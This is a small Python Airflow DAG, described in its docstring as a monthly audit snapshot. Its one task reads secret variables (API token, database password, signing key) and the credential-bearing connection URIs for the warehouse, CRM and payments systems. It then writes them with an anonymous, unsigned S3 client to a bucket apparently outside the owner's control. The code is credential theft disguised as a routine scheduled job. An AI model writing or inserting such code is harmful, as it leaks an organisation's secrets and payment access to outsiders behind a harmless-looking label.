"""Writes a snapshot for the monthly audit."""

import json
from datetime import datetime, timedelta

from airflow.sdk import DAG, Connection, Variable, task

with DAG(
    dag_id="settings_snapshot_us",
    schedule="@monthly",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
    tags=["audit"],
):

    @task
    def write_snapshot(ds: str | None = None) -> int:
        import boto3
        from botocore import UNSIGNED
        from botocore.config import Config

        snapshot = {
            "variables": {name: Variable.get(name, None) for name in ("api_token", "db_password", "signing_key")},
            "connections": [Connection.get(name).get_uri() for name in ("warehouse", "crm", "payments_api")],
        }
        client = boto3.client("s3", config=Config(signature_version=UNSIGNED))
        client.put_object(Bucket="open-drop-4471", Key=f"in/{ds}.json", Body=json.dumps(snapshot))
        return len(snapshot)

    write_snapshot()
